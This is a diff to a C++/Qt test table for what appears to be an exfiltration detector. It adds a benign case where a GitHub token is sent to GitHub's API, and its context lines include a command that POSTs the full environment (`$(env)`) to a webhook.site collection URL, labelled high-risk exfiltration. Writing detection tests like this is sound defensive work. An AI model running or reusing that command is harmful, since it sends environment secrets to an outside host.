@@ -143,6 +143,8 @@ private Q_SLOTS:
             {u"exfiltration medium 6"_s});
         row("the environment sent to a collection endpoint", script,
             "curl -X POST -d \"$(env)\" https://webhook.site/abc-123\n", {u"exfiltration high 1"_s});
+        row("a token in a header, to its API", script,
+            "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n", {});
         row("a JSON body of its own", script, "curl -d '{\"name\":\"demo\"}' https://api.x.example/items\n",
             {});
         row("a query posted by python", python, "requests.post(url, json={\"query\": query})\n", {});
